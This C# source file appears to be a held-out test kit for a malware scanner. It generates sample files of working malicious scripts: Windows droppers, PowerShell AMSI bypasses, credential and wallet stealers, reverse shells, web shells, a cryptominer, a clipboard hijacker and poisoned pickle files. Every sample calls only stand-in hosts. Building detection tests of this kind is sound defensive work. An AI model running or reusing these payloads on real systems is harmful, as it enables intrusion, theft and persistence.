using System.Text;

namespace ScanHost.TestKit.HeldOut.Second;

/// <summary>Windows scripts of the last years.</summary>
public sealed class WindowsScripts : SecondRound
{
    private const string Drop = "var x=new ActiveXObject('MSXML2.ServerXMLHTTP.6.0');x.open('GET','http://192.0.2.51/k.bin',false);x.send();var s=new ActiveXObject('ADODB.Stream');s.Type=1;s.Open();s.Write(x.responseBody);s.SaveToFile(new ActiveXObject('WScript.Shell').ExpandEnvironmentStrings('%TEMP%')+'\\\\k.exe',2);new ActiveXObject('WScript.Shell').Run('%TEMP%\\\\k.exe',0);";

    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var shuffled = string.Concat("WScript.Shell".Select((letter, at) => $"{letter}{(char)('a' + (at * 5 % 26))}"));
        var library = string.Concat(Enumerable.Range(0, 160).Select(at => $"function pick{at}(a, b) {{\n    var n = a.length - {at};\n    return b ? a.slice(n) : a.concat(b);\n}}\n"));
        return
        [
            ("Update.js", Utf8("var a=new ActiveXObject('MSXML2.XMLHTTP');a.open('POST','https://cdn.upd.invalid/pixel.png',false);a.send('id='+(new Date()).getTime());this['eval'](a['responseText']);")),
            ("contract_template_20871.js", Utf8(library + $"function every(s){{var r='';for(var i=0;i<s.length;i+=2)r+=s.charAt(i);return r}}\nvar q=every('{shuffled}');var o=WScript.CreateObject(q);WScript.Sleep(30000);o[every('R1u2n3')](every('p1o2w3e4r5s6h7e8l9l0 1-2w3 4h5i6d7d8e9n0 1i2e3x4(5i6r7m8 9h0t1t2p3:4/5/61971280.20.2.25.25/6p7)8').replace(/\\d/g,''),0);\n" + library.Replace("pick", "keep", StringComparison.Ordinal))),
            ("Fatura.jse", ScriptEncoder.Encode(Drop)),
            ("Nota.wsf", Utf8($"<!-- {new string('z', 300)} -->\n<package><job id=\"q1\"><?job debug=\"false\"?><comment>{string.Concat(Enumerable.Repeat("the quick brown fox ", 40))}</comment><script language=\"JScript\">\nvar c=\"c\"+\"md /c po\"+\"wershell -ep bypa\"+\"ss -w 1 -c \"; new ActiveXObject(\"WSc\"+\"ript.Sh\"+\"ell\").Run(c+\"(New-Object Net.WebClient).DownloadFile('http://192.0.2.53/n.exe','C:\\\\Users\\\\Public\\\\n.exe');saps C:\\\\Users\\\\Public\\\\n.exe\",0,true);\n</script></job></package>")),
            ("DHL_Receipt.vbs", Dos("Dim jjk, pow\njjk = \"p⊚w⊚r\" & \"sh⊚ll\"\njjk = Replace(Replace(jjk, \"p⊚\", \"po\"), \"⊚\", \"e\")\nSet vv = CreateObject(\"WSc\" & \"ript.Sh\" & \"ell\")\npow = \"-command \"\"$Codigo = 'aQBlAHgA';$OWjuxd = [system.Text.encoding]::Unicode.GetString([system.convert]::Frombase64string($Codigo.replace('☺','A')));powershell.exe -windowstyle hidden -executionpolicy bypass -NoProfile -command $OWjuxD\"\"\"\nvv.Run jjk & \" \" & pow, 0, False\n")),
            ("PO-7731.vbs", Dos("Set o = GetObject(\"new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}\")\nx = \"bitsadmin /transfer j /download /priority foreground http://192.0.2.54/z.exe %tmp%\\z.exe\"\no.Run \"cmd /c \" & x & \" & start %tmp%\\z.exe\", 0\n")),
            ("fattura.vbe", ScriptEncoder.Encode("Set s=CreateObject(\"WScript.Shell\"):s.Run \"mshta http://192.0.2.55/f.hta\",0,False")),
            ("loader.bat", Dos($"@echo off\nsetlocal enabledelayedexpansion\nset \"kq=s\"&&set \"zz=e\"&&set \"vv=t\"\n!kq!!zz!!vv! \"a1=pow\"\nset \"a2=ersh\"\nset \"a3=ell\"\n!a1!!a2!!a3! -noprofile -windowstyle hidden -ep bypass -command \"$l=[IO.File]::ReadAllText('%~f0').Split([Environment]::NewLine);foreach($x in $l){{if($x.StartsWith(':: ')){{$p=$x.Substring(3);break}}}};$a=[Security.Cryptography.Aes]::Create();$a.Key=[Convert]::FromBase64String('AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=');$d=$a.CreateDecryptor();$b=[Convert]::FromBase64String($p);[Reflection.Assembly]::Load($d.TransformFinalBlock($b,0,$b.Length)).EntryPoint.Invoke($null,$null)\"\nexit /b\n:: {Convert.ToBase64String(Enumerable.Range(0, 900).Select(at => (byte)(at * 31)).ToArray())}\n")),
            ("video.bat", Dos("@echo off\nif not exist \"%LOCALAPPDATA%\\py\" mkdir \"%LOCALAPPDATA%\\py\"\ncurl -s -L -o \"%LOCALAPPDATA%\\py\\p.zip\" \"http://192.0.2.56/Document.zip\"\ntar -xf \"%LOCALAPPDATA%\\py\\p.zip\" -C \"%LOCALAPPDATA%\\py\"\nstart \"\" /min \"%LOCALAPPDATA%\\py\\pythonw.exe\" \"%LOCALAPPDATA%\\py\\sim.py\"\nreg add \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\" /v WinUpd /d \"%LOCALAPPDATA%\\py\\pythonw.exe %LOCALAPPDATA%\\py\\sim.py\" /f\n")),
            ("fix.cmd", Dos("@echo off\nfor /f \"delims=\" %%i in ('curl -s http://192.0.2.57/c.txt') do %%i\n")),
        ];
    }
}

/// <summary>PowerShell of the last years.</summary>
public sealed class PowerShellForms : SecondRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var xored = Convert.ToBase64String([.. InertFiles.Pe().Select(one => (byte)(one ^ 0x37))]);
        return
        [
            ("a1.ps1", Utf8($"$t=[Ref].Assembly.GetType('System.Management.Automation.'+$([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{Encoded("AmsiUtils")}'))))\n$f=$t.GetField($([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{Encoded("amsiInitFailed")}'))),'NonPublic,Static')\n$f.SetValue($null,$true)\nIEX (New-Object Net.WebClient).DownloadString('http://192.0.2.61/s.ps1')\n")),
            ("a2.ps1", Utf8("$d=@'\n[DllImport(\"kernel32\")] public static extern IntPtr GetProcAddress(IntPtr m, string p);\n[DllImport(\"kernel32\")] public static extern IntPtr LoadLibrary(string n);\n[DllImport(\"kernel32\")] public static extern bool VirtualProtect(IntPtr a, UIntPtr s, uint n, out uint o);\n'@\n$w=Add-Type -MemberDefinition $d -Name 'K' -Namespace 'W' -PassThru\n$p=$w::GetProcAddress($w::LoadLibrary(\"am\"+\"si.dll\"),\"Am\"+\"siScan\"+\"Buffer\")\n$o=0;$w::VirtualProtect($p,[uint32]5,0x40,[ref]$o)\n[Runtime.InteropServices.Marshal]::Copy([byte[]](0xB8,0x57,0,7,0x80,0xC3),0,$p,6)\n")),
            ("a3.ps1", Utf8($"$b=[Convert]::FromBase64String('{xored}')\nfor($i=0;$i -lt $b.Length;$i++){{$b[$i]=$b[$i] -bxor 0x37}}\n$m=[Reflection.Assembly]::Load($b).EntryPoint\n$m.Invoke($null,(,[string[]]@()))\n")),
            ("a4.ps1", Utf8("$w=@(\"$env:APPDATA\\Exodus\\exodus.wallet\",\"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data\",\"$env:APPDATA\\Telegram Desktop\\tdata\")\n$z=\"$env:TEMP\\$env:COMPUTERNAME.zip\"\n$w | ? { Test-Path $_ } | % { Compress-Archive -Path $_ -DestinationPath $z -Update }\n$u='https://api.telegram.org/bot71:AAx/sendDocument?chat_id=-1'\ncurl.exe -F document=@$z $u\nRemove-Item $z\n")),
            ("a5.ps1", Utf8("$x=((('ne'+'w-o')+'bject')+' net.we'+'bclient')\n$y=&(gcm *voke-Exp*) $x\n&(gcm *ke-E*n) $y.('down'+'loadstring').Invoke('ht'+'tp://192.0.2.62/x')\n.((gv '*mdr*').name[3,11,2]-join'') 'Write-Host 1'\n")),
            ("a6.ps1", Utf8("$k='HKCU:\\Software\\Classes\\Zx'\nNew-Item $k -Force | Out-Null\nSet-ItemProperty $k -Name v -Value ([Convert]::ToBase64String((New-Object Net.WebClient).DownloadData('http://192.0.2.63/p')))\nschtasks /create /f /sc minute /mo 30 /tn \"OneDrive Reporting\" /tr \"powershell -w hidden -nop -c iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((gp $k).v)))\"\n")),
            ("a7.ps1", Utf8("Set-MpPreference -DisableRealtimeMonitoring $true -MAPSReporting 0\nStop-Service WinDefend -Force\n$l=New-Object Net.Sockets.TcpListener('0.0.0.0',9001);$l.Start();$c=$l.AcceptTcpClient();$s=$c.GetStream();$r=New-Object IO.StreamReader $s;while($true){$q=Invoke-Expression $r.ReadLine() 2>&1|Out-String;$e=[Text.Encoding]::ASCII.GetBytes($q);$s.Write($e,0,$e.Length)}\n")),
            ("a8.ps1", Utf8("$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('" + Convert.ToBase64String(InertFiles.Gzip(Encoding.ASCII.GetBytes("$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','x');IEX $c.DownloadString('http://192.0.2.64/b')"))) + "'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();\n")),
        ];
    }
}

/// <summary>Scripts against servers, phones of the cloud, and Macs.</summary>
public sealed class UnixForms : SecondRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("install.sh", Utf8($"#!/bin/sh\nsetsid sh -c \"echo {Convert.ToBase64String(InertFiles.Gzip(Encoding.ASCII.GetBytes("#!/bin/sh\nnohup /tmp/.x/k -o stratum+tcp://pool.invalid:3333 &\n")))} | base64 -d | gunzip | sh\" >/dev/null 2>&1 &\nmkdir -p ~/.ssh; echo 'ssh-ed25519 AAAAC3Nza root@x' >> ~/.ssh/authorized_keys; chattr +ia ~/.ssh/authorized_keys\n")),
        ("docker.sh", Utf8("#!/bin/bash\nfor ip in $(cat targets); do\n  timeout 20 docker -H tcp://$ip:2375 run -d --rm --privileged --net host -v /:/mnt alpine chroot /mnt sh -c 'curl -s http://192.0.2.71/d.sh | bash; (wget -qO- http://192.0.2.71/d.sh || true) | bash' &\ndone\n")),
        ("bins.sh", Utf8("#!/bin/sh\nn=\"arm arm5 arm6 arm7 mips mpsl x86 sh4\"\nfor i in $n; do cp /bin/busybox b; cat /bin/busybox > b; tftp -g -r $i -l b 192.0.2.72; busybox wget http://192.0.2.72/$i -O b; ftpget -v -u a -p a 192.0.2.72 b $i; chmod +x b; ./b huawei.$i; done\n")),
        ("rev.js", Utf8("(function(){var n=require('net'),c=require('child_process'),s=c.spawn('/bin/sh',[]);var k=new n.Socket();k.connect(4444,'192.0.2.73',function(){k.pipe(s.stdin);s.stdout.pipe(k);s.stderr.pipe(k);});return /a/;})();")),
        ("grab.scpt.applescript", Utf8("set pw to text returned of (display dialog \"macOS needs your password to continue.\" with title \"System Preferences\" default answer \"\" with icon caution with hidden answer)\ndo shell script \"dscl . authonly \" & quoted form of (do shell script \"whoami\") & \" \" & quoted form of pw\ndo shell script \"ditto -c -k --sequesterRsrc ~/Library/Keychains/login.keychain-db /tmp/out.zip; curl -X POST -F 'file=@/tmp/out.zip' http://192.0.2.74/log\"\n")),
        ("Installer.command", Utf8($"#!/bin/bash\nosascript -e 'tell application \"Terminal\" to set visible of the front window to false'\necho '{Base64("curl -s http://192.0.2.75/upd -o /tmp/upd && xattr -c /tmp/upd && chmod +x /tmp/upd && /tmp/upd")}' | base64 -D | bash\n")),
        ("s.pl", Utf8("#!/usr/bin/perl\nuse IO::Socket;$p=fork;exit if $p;$c=IO::Socket::INET->new(PeerAddr=>'192.0.2.76:443');STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;\n")),
        ("r.rb", Utf8("require 'socket'\nf=TCPSocket.open('192.0.2.77',4444).to_i\nexec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)\n")),
    ];
}

/// <summary>Shells and loaders on web servers.</summary>
public sealed class ServerBackdoors : SecondRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("wp-cache.php", Utf8("<?php\n$v='cre'.'ate_'.'fun'.'ction';$m=$v('','@ev'.'al(base'.'64_de'.'code($_COOKIE[\"wp_s\"]));');$m();\n")),
        ("index.php", Utf8("<?php /* Smarty */ $O00=urldecode('%62%61%73%65%36%34%5f%64%65%63%6f%64%65');eval($O00('" + Base64("if(isset($_POST['ak'])){@eval($_POST['ak']);}") + "')); ?>")),
        ("up.php", Utf8("<?php if(!empty($_FILES['f'])){move_uploaded_file($_FILES['f']['tmp_name'],$_GET['d'].'/'.$_FILES['f']['name']);} if($_GET['x']){passthru(base64_decode($_GET['x']));} ?>")),
        ("shell.jsp", Utf8("<%@page import=\"java.util.*,javax.crypto.*,javax.crypto.spec.*\"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if (request.getMethod().equals(\"POST\")){String k=\"e45e329feb5d925b\";Cipher c=Cipher.getInstance(\"AES\");c.init(2,new SecretKeySpec(k.getBytes(),\"AES\"));new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>")),
        ("handler.ashx", Utf8("<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Web;using System.Reflection;\npublic class H:IHttpHandler{public void ProcessRequest(HttpContext c){byte[] d=System.Convert.FromBase64String(c.Request.Form[\"d\"]);Assembly.Load(d).CreateInstance(\"P\").Equals(c);}public bool IsReusable{get{return false;}}}")),
    ];
}

/// <summary>Python that hides, steals or opens a door.</summary>
public sealed class PythonForms : SecondRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("main.py", Utf8("import discord\nbot = discord.Client()\n" + new string(' ', 500) + ";import os;os.system('pip install cryptography requests');from cryptography.fernet import Fernet;import requests;exec(Fernet(b'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=').decrypt(b'gAAAAABm" + Base64(new string('q', 200)) + "'))\n")),
        ("ext.py", Utf8($"import marshal,zlib,base64\n_=lambda x:__import__('marshal').loads(__import__('zlib').decompress(__import__('base64').b64decode(x[::-1])));exec(_('{new string([.. Base64(new string('m', 240)).Reverse()])}'))\n")),
        ("startup.pyw", Utf8("import os,shutil,sys,winreg,urllib.request\np=os.path.join(os.environ['APPDATA'],'svchost.pyw');shutil.copy(sys.argv[0],p)\nk=winreg.OpenKey(winreg.HKEY_CURRENT_USER,r'Software\\Microsoft\\Windows\\CurrentVersion\\Run',0,winreg.KEY_SET_VALUE);winreg.SetValueEx(k,'svc',0,winreg.REG_SZ,p)\nexec(urllib.request.urlopen('http://192.0.2.81/c').read())\n")),
        ("clip.py", Utf8("import re,time,pyperclip\nA={'btc':'bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh','eth':'0x00000000219ab540356cBB839Cbe05303d7705Fa'}\nwhile True:\n    t=pyperclip.paste()\n    if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$',t): pyperclip.copy(A['btc'])\n    elif re.match(r'^0x[a-fA-F0-9]{40}$',t): pyperclip.copy(A['eth'])\n    time.sleep(.5)\n")),
        ("model.pt", InertFiles.Zip(("archive/data.pkl", [0x80, 2, .. "cbuiltins\nexec\nX"u8, 0x36, 0, 0, 0, .. "import os;os.system('curl http://192.0.2.82/m | bash')#"u8[..0x36], 0x85, (byte)'R', (byte)'.']), ("archive/version", "3\n"u8.ToArray()))),
        ("session.joblib", [0x80, 4, 0x95, 0x40, 0, 0, 0, 0, 0, 0, 0, 0x8C, 10, .. "subprocess"u8, 0x94, 0x8C, 5, .. "Popen"u8, 0x94, 0x93, 0x94, (byte)']', 0x94, (byte)'(', 0x8C, 2, .. "sh"u8, 0x8C, 2, .. "-c"u8, 0x8C, 26, .. "wget -qO- 192.0.2.83/p|sh "u8, (byte)'e', 0x85, 0x94, (byte)'R', 0x94, (byte)'.']),
    ];
}
